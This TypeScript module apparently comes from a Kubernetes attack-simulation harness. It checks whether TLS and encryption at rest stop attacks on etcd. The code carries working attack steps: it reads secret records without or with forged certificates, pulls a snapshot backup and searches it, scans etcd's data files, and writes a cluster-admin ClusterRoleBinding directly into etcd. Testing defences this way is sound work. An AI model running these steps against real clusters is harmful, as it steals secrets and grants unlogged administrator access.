import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Answer, Client } from '../../api-server/client';
import { about, type Outcome } from '../attack';
import { judged, unconnected, untried, using } from '../request-attack';
import type { Target } from '../target';

const pastTheServer = 'nothing of it goes through the API server';
const needsIntruder = 'it needs the API server’s own credential for etcd, as a broken control plane node has it';
/** As etcd takes keys and values. */
export const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** Bytes of a backup that are searched. */
const most = 256 * 1024 * 1024;

/** Asks for what is under a key. */
export const range = (client: Client, key: string): Promise<Answer> =>
  client.send({ method: 'POST', path: '/v3/kv/range', body: { key: base64(key) } });

/** The value under a key, decoded. */
export function valueIn({ body }: Answer): Buffer | undefined {
  const [found] = (body.kvs ?? []) as { value?: string }[];
  return found?.value === undefined ? undefined : Buffer.from(found.value, 'base64');
}

/** Where the attacked secret's record is. */
export const recordOf = ({ namespace, secret }: Target) => `/registry/secrets/${namespace}/${secret?.name ?? ''}`;

/** Asks etcd with some credential for the attacked secret. */
async function readAs(target: Target, forgery: 'none' | 'of another authority' | 'of the cluster'): Promise<Outcome> {
  if (target.etcd === undefined) return untried('nobody said where etcd is');
  const credential =
    forgery === 'none' ? {} : forgery === 'of the cluster' ? target.as('outsider')?.access : target.forged(forgery);
  if (credential === undefined) return untried('it needs a client certificate');
  const { cert, key } = credential;
  if (forgery !== 'none' && cert === undefined) return untried('it needs a client certificate');
  const access = {
    endpoint: target.etcd.endpoint,
    insecure: true,
    ...(cert !== undefined && { cert }),
    ...(key !== undefined && { key }),
  };
  return using(target.reach(access), async (client) => {
    try {
      return judged(await range(client, recordOf(target)), ({ status }) =>
        status === 200 ? 'etcd answered' : undefined,
      );
    } catch (error) {
      return unconnected(error, 'TLS of etcd');
    }
  });
}

/** Looks for a text that must not lie in the open. */
async function sought(target: Target, bytes: Buffer | undefined, where: string): Promise<Outcome> {
  if (bytes === undefined) return untried(`${where} has nothing to look at`);
  if (target.secret === undefined) return untried('it needs a secret in the namespace');
  if (bytes.includes(target.secret.marker)) {
    return { result: 'succeeded', evidence: `the body stands in the open in ${where}`, auditIds: [] };
  }
  const message = `${bytes.length} bytes, and nothing readable`;
  return { result: 'refused', by: 'encryption at rest', message, auditIds: [] };
}

/** As somebody who broke into a control plane node. */
export async function intruding(target: Target, work: (client: Client) => Promise<Outcome>): Promise<Outcome> {
  const { endpoint, intruder } = target.etcd ?? {};
  if (endpoint === undefined || intruder === undefined) return untried(needsIntruder);
  return using(target.reach({ endpoint, insecure: true, ...intruder }), work);
}

/** What the snapshot of etcd, as a backup takes it, holds. */
async function backup(client: Client): Promise<Buffer> {
  const { text } = await client.send({ method: 'POST', path: '/v3/maintenance/snapshot', body: {}, most });
  const blobs = text
    .split('\n')
    .filter((line) => line.trim() !== '')
    .map((line) => (JSON.parse(line) as { result?: { blob?: string } }).result?.blob ?? '');
  return Buffer.concat(blobs.map((blob) => Buffer.from(blob, 'base64')));
}

function filesBelow(folder: string): Buffer {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  return Buffer.concat(files.map(({ parentPath, name }) => readFileSync(join(parentPath, name))));
}

const plantedKey = '/registry/clusterrolebindings/attack-planted';
const planted = {
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: {
    name: 'attack-planted',
    uid: '6a1e3c1c-0000-4000-8000-000000000001',
    creationTimestamp: '2026-01-01T00:00:00Z',
  },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'palisade-attack:outsider' }],
};

/** Secrets past the API server. */
export const etcd = about('etcd', [
  {
    id: 'etcd-without-certificate',
    title: 'Read etcd over the network without a certificate',
    technique: 'T1552.007',
    mutates: false,
    stoppedBy: 'TLS of etcd',
    unlogged: pastTheServer,
    run: (target) => readAs(target, 'none'),
  },
  {
    id: 'etcd-client-of-cluster',
    title: 'Read etcd with a certificate that is good for the API server',
    technique: 'T1552.007',
    mutates: false,
    stoppedBy: 'TLS of etcd',
    unlogged: pastTheServer,
    run: (target) => readAs(target, 'of the cluster'),
  },
  {
    id: 'etcd-client-of-attacker',
    title: 'Read etcd with a certificate by an authority of the attacker’s own',
    technique: 'T1552.007',
    mutates: false,
    stoppedBy: 'TLS of etcd',
    unlogged: pastTheServer,
    run: (target) => readAs(target, 'of another authority'),
  },
  {
    id: 'etcd-secret-in-the-open',
    title: 'Read a secret in etcd, with the API server’s own credential',
    technique: 'T1552.007',
    mutates: false,
    stoppedBy: 'encryption at rest',
    unlogged: pastTheServer,
    run: (target) =>
      intruding(target, async (client) => sought(target, valueIn(await range(client, recordOf(target))), 'etcd')),
  },
  {
    id: 'etcd-config-map-in-the-open',
    title: 'Read a config map in etcd, with the API server’s own credential',
    technique: 'T1552.007',
    mutates: false,
    stoppedBy: 'encryption at rest',
    unlogged: pastTheServer,
    run: (target) =>
      intruding(target, async (client) => {
        const key = `/registry/configmaps/${target.namespace}/${target.map ?? ''}`;
        return sought(target, valueIn(await range(client, key)), 'etcd');
      }),
  },
  {
    id: 'etcd-backup',
    title: 'Steal a backup (a snapshot of etcd) and read the secrets in it',
    technique: 'T1552',
    mutates: false,
    stoppedBy: 'encryption at rest',
    unlogged: pastTheServer,
    run: (target) => intruding(target, async (client) => sought(target, await backup(client), 'the snapshot')),
  },
  {
    id: 'etcd-disk',
    title: 'Read the secrets from the files of etcd, on the disk or a copy of it',
    technique: 'T1552.001',
    mutates: false,
    stoppedBy: 'encryption at rest',
    unlogged: pastTheServer,
    run: async (target) => {
      const folder = target.etcd?.dataFolder;
      if (folder === undefined) return untried('it needs the disk of etcd');
      return sought(target, filesBelow(folder), 'etcd’s files');
    },
  },
  {
    id: 'etcd-planted-record',
    title: 'Make oneself cluster-admin by a record that is written into etcd, past every check',
    technique: 'T1098.006',
    mutates: true,
    stoppedBy: 'encryption at rest',
    run: (target) =>
      intruding(target, async (client) => {
        const reader = target.as('administrator');
        if (reader === undefined)
          return untried('it needs the credential of an administrator, to see what became of it');
        const body = { key: base64(plantedKey), value: base64(JSON.stringify(planted)) };
        await client.send({ method: 'POST', path: '/v3/kv/put', body });
        try {
          return judged(
            await reader.get('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/attack-planted'),
            ({ status }) => (status === 200 ? 'served as if the API server had written it' : undefined),
          );
        } finally {
          await client.send({ method: 'POST', path: '/v3/kv/deleterange', body: { key: base64(plantedKey) } });
        }
      }),
  },
]);
